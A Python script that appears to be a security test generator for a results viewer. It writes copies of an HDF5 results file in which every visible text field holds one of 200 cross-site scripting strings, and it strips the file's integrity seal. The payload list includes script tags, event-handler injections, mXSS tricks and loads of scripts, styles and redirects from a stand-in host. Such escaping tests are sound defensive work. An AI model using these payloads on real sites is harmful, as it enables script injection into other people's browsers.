"""Copies of a results file in which every text that a reader may see is an attack on a page.

usage: hostile.py RESULTS.h5 FOLDER      writes FOLDER/NNN.h5 and FOLDER/NNN.txt, the attack
"""
import json
import re
import shutil
import sys
from pathlib import Path

import h5py

RUN = "window.attacked=1"
PIECES = [
    "<script>{0}</script>", "<ScRiPt>{0}</sCrIpT>", "<script src=//a.test/x.js></script>", "<img src=x onerror={0}>", "<svg onload={0}>",
    "<svg><script>{0}</script></svg>", "<body onload={0}>", "<iframe srcdoc='<script>parent.{0}</script>'>", "<a href=javascript:{0} autofocus onfocus={0}>x</a>",
    "<details open ontoggle={0}>", "<style>@import '//a.test/x.css';</style>", "<link rel=stylesheet href=//a.test/x.css>", "<meta http-equiv=refresh content=0;url=//a.test>",
    "<math><mtext></form><form><mglyph><style></math><img src onerror={0}>", "<object data=//a.test/x></object>", "&lt;script&gt;{0}&lt;/script&gt;",
    "<video><source onerror={0}></video>", "<base href=//a.test/>", "<marquee onstart={0}>x</marquee>", "{{{{constructor.constructor('{0}')()}}}}",
]
AROUND = ["{}", "\"'>{}", "</title>{}", "</style>{}", "</desc></svg>{}", "-->{}", "]]>{}", "'\"`>{}<!--", "</td></table>{}", "\u202e</h1>{}"]


def main():
    source, folder = sys.argv[1], Path(sys.argv[2])
    attacks = [around.format(piece.format(RUN)) for around in AROUND for piece in PIECES]
    assert len(attacks) == 200
    sealed = Path(source).read_bytes()
    for number, attack in enumerate(attacks):
        target = folder / f"{number:03}.h5"
        target.write_bytes(sealed[: sealed.rfind(b"\navert-fnv1a64:")])  # a file that another program changed has no seal
        (folder / f"{number:03}.txt").write_text(attack)
        with h5py.File(target, "r+") as file:
            attack_file(file, attack, keep_arms=number % 2 == 0)


def attack_file(file, attack, keep_arms):
    """With their own names the arms are found in the scenario, and its stories are told."""
    quoted = json.dumps(attack)
    text = file.attrs["scenario_toml"]
    text = text.decode() if isinstance(text, bytes) else text
    text = re.sub(r'^(title|story) = ".*"$', lambda found: f"{found[1]} = {quoted}", text, flags=re.M)
    file.attrs["scenario_toml"] = text
    for name in ("title", "fingerprint"):
        file.attrs[name] = attack

    def visit(name, item):
        if isinstance(item, h5py.Dataset) and h5py.check_string_dtype(item.dtype) and name != "summary/failure" and not (keep_arms and name == "arm"):
            for place in range(item.size):
                flat = item[...].ravel()
                flat[place] = attack if name == "summary/fingerprint" else f"{attack}{place}"
                item[...] = flat.reshape(item.shape)
        if name == "provenance":
            for each in item.attrs:
                item.attrs[each] = attack
        if name.startswith("parameters"):
            for each in item.attrs:
                if each.endswith(("_doc", "_source", "_range")):
                    item.attrs[each] = attack

    file.visititems(visit)


main()
